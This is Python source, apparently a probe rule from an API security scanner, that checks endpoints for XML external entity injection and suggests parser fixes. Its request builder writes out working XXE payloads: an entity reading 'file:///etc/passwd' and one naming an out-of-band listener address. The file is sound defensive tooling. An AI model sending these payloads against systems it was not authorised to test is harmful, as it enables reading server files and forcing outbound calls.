"""XML external entities: a document of the caller makes the target read files or call addresses.

Entities that a document type defines are replaced while the document is read: by files of the server, or by what an address
answers.

What is tried, on operations that take XML, or JSON that might be taken as XML as well: an entity with a text of our own, then
one that names a listener, then one that names /etc/passwd. Proof is the call that arrives, or the file's content in the answer,
against the same document whose entity is a plain text. That texts of our own are replaced is reported, too, as slight: it is
what makes small documents large.

To fix: switch document types off in the parser (`resolve_entities=False`, `disallow-doctype-decl`), or take JSON only.
"""

from collections.abc import Generator
from typing import Any

import msgspec

from yett.model.probe import (
    ANONYMOUS,
    Answer,
    Call,
    Claim,
    Exchanged,
    Flaw,
    Heard,
    Listen,
    ProbeRule,
    Probing,
    Send,
    Sign,
    Step,
)
from yett.model.rule import Severity
from yett.rules.probes.path_traversal import shown
from yett.rules.probing.operation import Operation
from yett.rules.probing.target import Target
from yett.rules.probing.trying import caller

RULE = ProbeRule(
    id="injection-xml",
    title="Entities of XML are replaced",
    severity=Severity.HIGH,
    flaws=(Flaw.XXE,),
    requests=8,
    weight=4,
    owasp=("API8:2023",),
    cwe=(611, 776),
    references=("https://cheatsheetseries.owasp.org/cheatsheets/XML_External_Entity_Prevention_Cheat_Sheet.html",),
)


def probe(target: Target, operation: Operation) -> Probing:
    if not operation.bodies or operation.perilous or target.doing(operation) in ("delete", "logout", "password"):
        return
    takes = next((media for media in operation.bodies if "xml" in media), "")
    name = caller(target, operation)
    if name is None and not takes:
        return
    name = name if name is not None else next(iter(target.names()), ANONYMOUS)
    base = target.fresh(operation, name)
    word = "yett" + target.token()
    plain = yield from _send(target, operation, base, takes, f'"{word}"', "an entity that is a text")
    if not takes and not target.succeeded(plain.answer):
        return
    body = plain.answer.body
    expanded = word.encode() in body and b"&yett;" not in body and b"ENTITY" not in body
    url: str = yield Listen()
    if url:
        called = yield from _send(
            target, operation, base, takes, f'SYSTEM "{url}"', "an entity that is an address of a listener"
        )
        if (yield Heard(url, 2.0)):
            yield _claim(name, "called an address that an entity named", called, plain, sign=Sign(kind="called", names=(url,)))
            return
    if expanded or not url:
        read = yield from _send(target, operation, base, takes, 'SYSTEM "file:///etc/passwd"', "an entity that is a file")
        if shown(read) and not shown(plain):
            yield _claim(name, "answered with the file that an entity named", read, plain)
            return
    if expanded:
        word = "yett" + target.token()
        other = yield from _send(
            target, operation, base, takes, f'"{word}"', "the same entity with another text: that one comes"
        )
        if word.encode() in other.answer.body:
            yield _claim(name, "replaced an entity that the document defines", plain, other, Severity.LOW)


def _document(operation: Operation, entity: str) -> bytes:
    names = list(operation.body.get("properties") or {"value": {}})[:20]
    root = operation.body.get("xml", {}).get("name") if isinstance(operation.body.get("xml"), dict) else None
    root = root if isinstance(root, str) and root.isidentifier() else "root"
    members = "".join(f"<{name}>&yett;</{name}>" for name in names if str(name).isidentifier())
    return f'<?xml version="1.0"?><!DOCTYPE {root} [<!ENTITY yett {entity}>]><{root}>{members or "&yett;"}</{root}>'.encode()


def _send(
    target: Target, operation: Operation, base: Call, takes: str, entity: str, note: str
) -> Generator[Step, Any, Exchanged]:
    body = _document(operation, entity)
    call = msgspec.structs.replace(base, body=body, content_type=takes or "application/xml")
    answer: Answer = yield Send(call)
    if target.succeeded(answer) and target.doing(operation) in ("create", "register"):
        yield target.made(operation, None, call.identity)
    return Exchanged(call, answer, note)


def _claim(
    who: str,
    what: str,
    one: Exchanged,
    control: Exchanged,
    severity: Severity | None = None,
    sign: Sign = Sign(),  # noqa: B008  frozen
) -> Claim:
    return Claim(
        flaw=Flaw.XXE,
        place="body",
        identities=(who,),
        text=f"While it read a document of XML, the target {what}.",
        reasons=("documents can make it read files and call addresses",)
        if severity is None
        else ("small documents become large",),
        proof=(one,),
        control=(control,),
        severity=severity,
        sign=sign,
    )
